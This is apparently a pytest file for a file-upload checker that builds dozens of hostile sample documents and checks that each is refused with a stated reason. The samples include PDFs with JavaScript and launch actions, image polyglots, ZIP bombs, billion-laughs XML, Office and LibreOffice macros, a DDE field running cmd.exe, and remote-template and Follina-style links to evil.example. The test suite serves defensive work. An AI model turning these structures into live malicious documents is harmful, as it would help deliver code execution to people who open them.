"""Hostile files (issue 18, item 7): each kind is refused by its content, with the
reason the family sees on the page; ordinary files made by real programs still pass.
Viruses are clamd's (tests/casework/documents/test_scanning.py)."""

from __future__ import annotations

import zipfile
import zlib

import pytest
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from casework.file_checks import DOCX, JPEG, ODT, PDF, PNG, XLSX, FileRefused, file_check

from .conftest import upload
from .hostile import (
    EICAR,
    MB,
    deflated,
    deflated_zeros,
    docx,
    docx_parts,
    docx_with_raw_part,
    fpdf_bytes,
    jpeg_bytes,
    jpeg_with_comment,
    odt,
    pdf,
    pdf_object_stream_js,
    png_bytes,
    png_with_chunk,
    pypdf_bytes,
    raw_zip,
    xlsx,
    zip_bytes,
)

PDF_ADVICE = "Open it and print it to a new PDF"
OFFICE_ADVICE = "Save it again as a PDF (or without macros, as .docx, .xlsx or .odt) and send that."


def _js_name_in_writer(writer):
    # A document-level script in the /Names tree, as Acrobat writes one.
    script = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("1")})
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), writer._add_object(script)])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})


def _attachment(writer):
    writer.add_attachment("run.exe", b"MZ" + b"\x00" * 64)


def _launch(writer):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
    )


def _encrypted(writer):
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")


def _office_bomb():
    part = deflated_zeros(1024)
    return docx_with_raw_part("word/media/image1.png", part, 1024 * MB, 0)


def _content_types_bomb():
    entries = [(n, deflated(d), len(d), zlib.crc32(d)) for n, d in docx_parts().items() if n != "[Content_Types].xml"]
    return raw_zip([("[Content_Types].xml", deflated_zeros(512), 512 * MB, 0), *entries])


def _lying_sizes():
    # The directory says 1,000 bytes; the data expands to 200 MB.
    return docx_with_raw_part("word/media/image1.png", deflated_zeros(200), 1000, 0)


def _overlapping():
    # One 40 MB part named three times over (a "non-recursive" zip bomb): 120 MB.
    return raw_zip([("word/document.xml", deflated_zeros(40), 40 * MB, 0)], offsets=[0, 0, 0])


def _many_parts():
    return zip_bytes(docx_parts() | {f"word/media/image{n}.png": b"x" for n in range(1001)})


def _duplicate_names():
    parts = [(n, deflated(d), len(d), zlib.crc32(d)) for n, d in docx_parts().items()]
    evil = b"<w:document>A second document.xml: which one a reader opens is anyone's guess</w:document>"
    return raw_zip([*parts, ("word/document.xml", deflated(evil), len(evil), zlib.crc32(evil))])


def _encrypted_part():
    # Marked as locked with a password (bit 0 of the flags, in the local and directory headers).
    data = bytearray(docx())
    local, directory = data.index(b"PK\x03\x04"), data.index(b"PK\x01\x02")
    data[local + 6] |= 0x1
    data[directory + 8] |= 0x1
    return bytes(data)


def _bzip2_part():
    return zip_bytes(docx_parts(), compress_type=zipfile.ZIP_BZIP2)


BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><w:document>&lol2;</w:document>'
)

HOSTILE = {
    # PDFs with active content
    "pdf-openaction-javascript": (
        "plan.pdf",
        lambda: pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>", root_extra=b"/OpenAction 4 0 R"),
        "active_content",
        "'plan.pdf' contains JavaScript (a program that runs when the PDF is opened), which we cannot accept. "
        + PDF_ADVICE,
    ),
    "pdf-javascript-name-escaped": (
        "plan.pdf",
        lambda: pdf(b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>", root_extra=b"/OpenAction 4 0 R"),
        "active_content",
        "contains JavaScript",
    ),
    "pdf-javascript-in-object-stream": ("plan.pdf", pdf_object_stream_js, "active_content", "contains JavaScript"),
    "pdf-document-javascript-by-library": (
        "plan.pdf",
        lambda: pypdf_bytes(_js_name_in_writer),
        "active_content",
        "contains JavaScript",
    ),
    "pdf-link-annotation-javascript": (
        "plan.pdf",
        lambda: pdf(
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /JavaScript /JS (this.print()) >> >>",
            root_extra=b"/Names << >>",
        ),
        "active_content",
        "contains JavaScript",
    ),
    "pdf-launch-action": (
        "plan.pdf",
        lambda: pdf(b"<< /S /Launch /F (cmd.exe) /NewWindow true >>", root_extra=b"/OpenAction 4 0 R"),
        "active_content",
        "'plan.pdf' contains an action that starts another program when it is opened, which we cannot accept.",
    ),
    "pdf-launch-action-by-library": ("plan.pdf", lambda: pypdf_bytes(_launch), "active_content", "starts another"),
    "pdf-embedded-file": (
        "plan.pdf",
        lambda: pypdf_bytes(_attachment),
        "active_content",
        "'plan.pdf' has other files attached inside it, which we cannot accept.",
    ),
    "pdf-file-attachment-annotation": (
        "plan.pdf",
        lambda: pdf(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (x.exe) >>"),
        "active_content",
        "has other files attached inside it",
    ),
    "pdf-go-to-embedded": (
        "plan.pdf",
        lambda: pdf(b"<< /S /GoToE /T << /R /C /N (x.pdf) >> >>", root_extra=b"/OpenAction 4 0 R"),
        "active_content",
        "has other files attached inside it",
    ),
    "pdf-flash-rich-media": (
        "plan.pdf",
        lambda: pdf(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"),
        "active_content",
        "contains Flash, sound or video",
    ),
    # Polyglots: a file that is two things at once
    "pdf-html-polyglot": (
        "plan.pdf",
        lambda: pdf(before_eof=b"%<html><body><script>fetch('/account/')</script></body></html>\n"),
        "hidden_content",
        "'plan.pdf' has web page code hidden inside it, which we cannot accept. Open it and save it again as a PDF",
    ),
    "pdf-zip-polyglot": (
        "plan.pdf",
        lambda: pdf(after_eof=zip_bytes({"payload.js": b"alert(1)"})),
        "hidden_content",
        "'plan.pdf' has a ZIP archive hidden inside it, which we cannot accept.",
    ),
    "png-html-after-iend": (
        "photo.png",
        lambda: png_bytes() + b"<html><script>alert(document.cookie)</script></html>",
        "hidden_content",
        "'photo.png' has something else hidden after the end of the image, which we cannot accept. "
        "Save the picture again (or take a screenshot) and send that.",
    ),
    "png-html-in-text-chunk": (
        "photo.png",
        lambda: png_with_chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>"),
        "hidden_content",
        "'photo.png' has web page code hidden inside it",
    ),
    "png-zip-after-iend": (
        "photo.png",
        lambda: png_bytes() + zip_bytes({"evil.exe": b"MZ"}),
        "hidden_content",
        "hidden after the end of the image",
    ),
    "png-zip-in-chunk": (
        "photo.png",
        lambda: png_with_chunk(b"zzZz", zip_bytes({"evil.js": b"alert(1)"})),
        "hidden_content",
        "has a ZIP archive hidden inside it",
    ),
    "png-without-end": ("photo.png", lambda: png_bytes()[:-12], "damaged", "'photo.png' is damaged"),
    "jpeg-zip-polyglot": (
        "scan.jpg",
        lambda: jpeg_bytes() + zip_bytes({"word/document.xml": b"<w:document/>"}),
        "hidden_content",
        "'scan.jpg' has something else hidden after the end of the image",
    ),
    "jpeg-program-after-eoi": (
        "scan.jpg",
        lambda: jpeg_bytes() + b"MZ\x90\x00" + b"\x00" * 200,
        "hidden_content",
        "hidden after the end of the image",
    ),
    "jpeg-html-in-comment": (
        "scan.jpg",
        lambda: jpeg_with_comment(b"<svg onload=alert(1)>"),
        "hidden_content",
        "'scan.jpg' has web page code hidden inside it",
    ),
    "gif-javascript-polyglot": (
        "photo.gif",
        lambda: b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=alert(1);//" + b"\x00;",
        "type",
        "We cannot tell what kind of file 'photo.gif' is.",
    ),
    # ZIP bombs
    "docx-1gb-part": (
        "views.docx",
        _office_bomb,
        "expands_too_far",
        "'views.docx' would expand to more than 100 MB when opened, which we cannot accept. "
        "Save it again as a PDF, or send a smaller document.",
    ),
    "docx-512mb-content-types": ("views.docx", _content_types_bomb, "expands_too_far", "more than 100 MB"),
    "docx-sizes-that-lie": ("views.docx", _lying_sizes, "damaged", "'views.docx' is damaged, so we cannot read it"),
    "docx-overlapping-entries": ("views.docx", _overlapping, "expands_too_far", "more than 100 MB"),
    "docx-too-many-parts": (
        "views.docx",
        _many_parts,
        "too_many_parts",
        "'views.docx' has more than 1,000 parts inside it",
    ),
    "docx-two-parts-one-name": ("views.docx", _duplicate_names, "damaged", "has two parts with the same name"),
    "docx-password-locked-part": ("views.docx", _encrypted_part, "encrypted", "is protected by a password"),
    "docx-packed-with-bzip2": ("views.docx", _bzip2_part, "damaged", "is packed in a way Word and LibreOffice"),
    # Macros and other active content in Office documents
    "docx-vba-project": (
        "views.docx",
        lambda: docx(extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
        "type",
        "'views.docx' is not a Word document: it looks like an Office file with macros",
    ),
    "docm-macro-enabled-type": (
        "views.docx",
        lambda: zip_bytes(
            docx_parts()
            | {
                "[Content_Types].xml": (
                    b'<Types><Override PartName="/word/document.xml" '
                    b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
                )
            }
        ),
        "type",
        "an Office file with macros",
    ),
    "xlsx-excel4-macro-sheet": (
        "budget.xlsx",
        lambda: xlsx(
            types=b'<Override PartName="/xl/macrosheets/sheet2.xml" '
            b'ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
            extra={"xl/macrosheets/sheet2.xml": b'<xm:macrosheet><f>EXEC("calc")</f></xm:macrosheet>'},
        ),
        "macros",
        "'budget.xlsx' contains an Excel 4.0 macro sheet (programs that run inside Excel), which we cannot accept. "
        + OFFICE_ADVICE,
    ),
    "xlsx-excel4-macro-sheet-renamed": (
        "budget.xlsx",
        lambda: xlsx(
            extra={
                "xl/worksheets/_rels/sheet1.xml.rels": b'<Relationships><Relationship Id="r1" '
                b'Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" '
                b'Target="../hidden/s.xml"/></Relationships>',
                "xl/hidden/s.xml": b"<xm:sheet/>",
            }
        ),
        "macros",
        "contains an Excel 4.0 macro sheet",
    ),
    "xlsx-auto-open-name": (
        "budget.xlsx",
        lambda: xlsx(
            workbook_extra=b'<definedNames><definedName name="_xlnm.Auto_Open">Sheet1!$A$1</definedName></definedNames>'
        ),
        "macros",
        "contains an Excel macro that runs when it is opened",
    ),
    "xlsx-dialog-sheet": (
        "budget.xlsx",
        lambda: xlsx(extra={"xl/dialogsheets/sheet1.xml": b"<dialogsheet/>"}),
        "macros",
        "dialog sheet",
    ),
    "docx-activex-control": (
        "views.docx",
        lambda: docx(extra={"word/activeX/activeX1.xml": b"<ax:ocx/>"}),
        "macros",
        "contains ActiveX controls",
    ),
    "docx-embedded-ole-object": (
        "views.docx",
        lambda: docx(extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500}),
        "active_content",
        "has an object from another program embedded in it",
    ),
    "docx-program-inside": (
        "views.docx",
        lambda: docx(extra={"word/media/image1.png": b"MZ\x90\x00" + b"\x00" * 500}),
        "active_content",
        "'views.docx' has a program hidden inside it",
    ),
    "docx-remote-template": (
        "views.docx",
        lambda: docx(
            document_rels=b'<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
        ),
        "active_content",
        "links to a template or object on another website, fetched when it is opened",
    ),
    "docx-follina-remote-object": (
        "views.docx",
        lambda: docx(
            document_rels=b'<Relationship Id="rId996" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/oleObject" Target="mhtml:https://evil.example/x.html!x-usc:https://evil.example/'
            b'x.html" TargetMode="External"/>'
        ),
        "active_content",
        "links to a template or object on another website",
    ),
    "docx-dde-field": (
        "views.docx",
        lambda: docx(
            body=b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
            b'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r></w:p>'
        ),
        "active_content",
        "'views.docx' contains a DDE field (it can start another program)",
    ),
    "docx-xml-entities": (
        "views.docx",
        lambda: zip_bytes(docx_parts() | {"word/document.xml": BILLION_LAUGHS}),
        "hidden_content",
        "declares XML entities",
    ),
    "odt-starbasic-macros": (
        "views.odt",
        lambda: odt(
            manifest=b'<manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" '
            b'manifest:media-type="text/xml"/>',
            extra={
                "Basic/Standard/Module1.xml": b'<script:module script:name="Module1">Sub Main\nShell("calc")\n'
                b"End Sub</script:module>",
                "Basic/script-lc.xml": b"<library:libraries/>",
            },
        ),
        "macros",
        "'views.odt' contains LibreOffice Basic macros (programs that run inside LibreOffice), which we cannot accept.",
    ),
    "odt-macro-on-open-event": (
        "views.odt",
        lambda: odt(
            content=b'<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
            b'script:event-name="office:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
            b'language=Basic&amp;location=application"/></office:event-listeners></office:scripts>'
        ),
        "macros",
        "contains LibreOffice macros",
    ),
    "odt-python-script": (
        "views.odt",
        lambda: odt(extra={"Scripts/python/run.py": b"import os\nos.system('calc')\n"}),
        "macros",
        "contains scripts (programs that run inside LibreOffice)",
    ),
    # Not what it says it is
    "pdf-password-protected": (
        "plan.pdf",
        lambda: pypdf_bytes(_encrypted),
        "encrypted",
        "'plan.pdf' is protected by a password, so we cannot check what is inside it",
    ),
    "pdf-unreadable": (
        "plan.pdf",
        lambda: b"%PDF-1.7\n" + b"\x00garbage" * 100,
        "damaged",
        "'plan.pdf' is damaged, or is not a PDF we can read",
    ),
    "html-named-pdf": (
        "plan.pdf",
        lambda: b"<html><script>alert(1)</script>%PDF-1.4",
        "type",
        "'plan.pdf' is not a PDF: it looks like a web page",
    ),
    "program-named-pdf": ("plan.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 100, "type", "it looks like a program"),
}


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_each_hostile_file_is_refused_with_the_reason_the_family_sees(kind):
    name, build, code, reason = HOSTILE[kind]

    with pytest.raises(FileRefused) as refused:
        file_check(upload(name, build(), "application/octet-stream"))

    assert reason in refused.value.messages[0]
    assert refused.value.code == code


def test_at_least_thirty_kinds_of_hostile_file_are_refused():
    assert len(HOSTILE) >= 30


GOOD = {
    "pdf-made-by-fpdf2": ("notes.pdf", fpdf_bytes, PDF),
    "pdf-passed-through-pypdf": ("notes.pdf", lambda: pypdf_bytes(lambda writer: None), PDF),
    "pdf-hand-written": ("notes.pdf", pdf, PDF),
    "png-from-pillow": ("photo.png", png_bytes, PNG),
    "png-with-text-chunk": ("photo.png", lambda: png_with_chunk(b"tEXt", b"Comment\x00Taken at school"), PNG),
    "jpeg-from-pillow": ("scan.jpg", jpeg_bytes, JPEG),
    "jpeg-progressive": ("scan.jpg", lambda: jpeg_bytes((300, 200), progressive=True), JPEG),
    "jpeg-with-exif": ("scan.jpg", lambda: jpeg_bytes(exif=b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00"), JPEG),
    "jpeg-with-comment": ("scan.jpg", lambda: jpeg_with_comment(b"Scanned at the library"), JPEG),
    "docx-with-a-web-link": ("views.docx", docx, DOCX),
    "xlsx": ("budget.xlsx", xlsx, XLSX),
    "odt": ("views.odt", odt, ODT),
}


@pytest.mark.parametrize("kind", list(GOOD))
def test_ordinary_files_made_by_real_programs_still_pass(kind):
    name, build, expected = GOOD[kind]

    assert file_check(upload(name, build(), "application/octet-stream")).kind == expected


def test_the_eicar_test_file_inside_a_pdf_passes_the_content_checks_for_clamd_to_find():
    # Content checks look for what acts; a virus is clamd's to find (test_scanning.py).
    content = pdf(b"<< /Length %d >>\nstream\n" % len(EICAR) + EICAR + b"\nendstream")

    assert file_check(upload("plan.pdf", content)).kind == PDF
